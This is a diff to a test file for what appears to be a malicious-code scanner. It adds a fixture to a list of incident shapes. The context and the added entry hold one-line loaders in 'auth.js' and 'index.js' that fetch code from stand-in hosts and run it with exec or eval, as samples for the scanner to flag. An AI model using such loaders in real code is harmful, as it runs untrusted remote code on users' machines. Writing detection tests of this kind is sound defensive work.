@@ -98,6 +98,11 @@ const SHAPES: readonly Shape[] = [
     files: { 'auth.js': "const { exec } = require('child_process');\nasync function load() {\n  const answer = await fetch('https://rpc.example/0x/cls');\n  exec(await answer.text());\n}\nload();" },
     tells: ['encoded-payload-executed high'],
   },
+  {
+    incident: 'a loader of one line',
+    files: { 'index.js': "fetch('https://loader.example/x.js').then((r) => r.text()).then(eval);" },
+    tells: ['encoded-payload-executed high'],
+  },
 ];
 
 test.each(SHAPES)('$incident', async ({ manifest, files, tells }) => {
